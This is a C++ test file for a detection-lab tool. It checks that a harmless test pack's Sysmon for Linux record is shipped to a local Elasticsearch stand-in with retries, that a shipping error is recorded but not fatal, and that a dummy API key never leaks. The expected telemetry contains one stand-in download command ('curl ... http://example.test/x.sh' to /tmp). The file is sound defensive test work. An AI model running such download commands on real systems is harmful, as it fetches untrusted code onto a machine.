// `attest run` with the lab's `ship: {elastic: ...}`: the harmless pack tests/data/packs/siem on
// the local transport ships its collected Sysmon for Linux record to the Elasticsearch
// stand-in (through a whole-request 429 and a per-item 429, both sent again); a shipping
// error does not change the verdict but is in results.json and the report; the API key is
// nowhere in what the run wrote.
#include <gtest/gtest.h>

#include "tests/net/elastic_standin.h"

using namespace attest::test;
using json = nlohmann::json;

namespace {

const char* kApiKey = "c2hpcC1pZDpzaGlwLXNlY3JldC1rZXk=";  // base64("ship-id:ship-secret-key")
const char* kGuid = "5e000000-0000-4000-8000-000000000105";

std::string lab_file(const std::string& ship_url, const std::string& ca, const std::string& log) {
    return "lab: ship-standin\n"
           "concurrency: 1\n"
           "timeouts: {execution: 30s, cleanup: 10s, collection: 1s}\n"
           "ship:\n"
           "  elastic: {url: " +
           ship_url + ", ca_file: " + ca +
           ", index: \"logs-{dataset}-lab\"}\n"
           "targets:\n"
           "- name: lab\n"
           "  platform: linux\n"
           "  transport: local\n"
           "  host: lab-host\n"
           "  sources:\n"
           "    sysmon_linux: {log: " +
           log + "}\n";
}

struct ShipRun {
    AttestRun run;
    const json* scenario = nullptr;
    std::string out;
};

ShipRun run_with_ship(const TempDir& tmp, const std::string& name, const std::string& url,
                      const std::string& ca) {
    ShipRun r;
    std::string log = tmp.path + "/" + name + ".syslog";
    write_text(log, "");
    write_text(tmp.path + "/" + name + ".yaml", lab_file(url, ca, log));
    r.out = tmp.path + "/" + name;
    ::setenv("ATTEST_ELASTIC_API_KEY", kApiKey, 1);
    r.run = run_attest({"run", "--lab", tmp.path + "/" + name + ".yaml", "--pack",
                        std::string(ATTEST_SOURCE_DIR) + "/tests/data/packs/siem", "--arg",
                        "log=" + log, "--out", r.out},
                       r.out, std::chrono::seconds(120));
    ::unsetenv("ATTEST_ELASTIC_API_KEY");
    r.scenario = find_scenario(r.run.results, "lab", kGuid);
    return r;
}

}  // namespace

TEST(RunShip, CollectedTelemetryArrivesAndAShippingErrorIsRecordedNotFatal) {
    TempDir tmp("run-ship");
    StandinCertificates certs(tmp.path + "/certs");
    if (!certs.ok) GTEST_SKIP() << "openssl could not make the test certificates";
    ElasticStandin standin(tmp.path + "/standin", certs, {"--api-key", kApiKey, "--bulk-faults"});
    ASSERT_GT(standin.port(), 0);

    auto ok = run_with_ship(tmp, "ok", standin.url(), certs.ca);
    ASSERT_NE(ok.scenario, nullptr) << ok.run.err;
    const json& shipped = (*ok.scenario)["collection"]["shipped"];
    ASSERT_EQ(shipped.size(), 1u) << ok.scenario->dump(2);
    EXPECT_EQ(shipped[0]["source"], "sysmon_linux");
    EXPECT_EQ(shipped[0]["index"], "logs-sysmon_linux.log-lab");
    EXPECT_EQ(shipped[0]["indexed"], 1);
    EXPECT_EQ(shipped[0]["refused"], 0);
    EXPECT_FALSE(shipped[0].contains("error"));
    // The document that arrived is the collected record, normalized as `attest events` does.
    std::vector<json> bulks;
    for (const auto& r : standin.requests())
        if (r["target"] == "/_bulk") bulks.push_back(r);
    ASSERT_EQ(bulks.size(), 2u);  // the whole-request 429, then the same body again
    EXPECT_EQ(bulks[0]["body"], bulks[1]["body"]);
    for (const auto& b : bulks) EXPECT_EQ(b["auth"], "ApiKey");
    std::string body = bulks[1]["body"];
    EXPECT_EQ(body.rfind("{\"create\":{\"_index\":\"logs-sysmon_linux.log-lab\"}}\n", 0), 0u)
        << body;
    auto doc = json::parse(body.substr(body.find('\n') + 1));
    EXPECT_EQ(doc["process"]["command_line"], "curl -s -o /tmp/x.sh http://example.test/x.sh");
    EXPECT_EQ(doc["host"]["name"], "lab-host");

    // Nothing listens there: the scenario's verdict is the same, the error is recorded.
    auto broken = run_with_ship(tmp, "broken", "https://127.0.0.1:1", certs.ca);
    ASSERT_NE(broken.scenario, nullptr) << broken.run.err;
    EXPECT_EQ((*broken.scenario)["verdict"], (*ok.scenario)["verdict"]);
    const json& failed = (*broken.scenario)["collection"]["shipped"];
    ASSERT_EQ(failed.size(), 1u);
    EXPECT_NE(failed[0]["error"].get<std::string>().find("127.0.0.1"), std::string::npos)
        << failed.dump();
    std::string report = read_text(broken.out + "/report.html");
    EXPECT_NE(report.find("shipped sysmon_linux to logs-sysmon_linux.log-lab"), std::string::npos);

    for (const auto& dir : {ok.out, broken.out})
        EXPECT_EQ(everything_under(dir).find(kApiKey), std::string::npos) << dir;
    EXPECT_EQ(ok.run.err.find(kApiKey), std::string::npos);
}
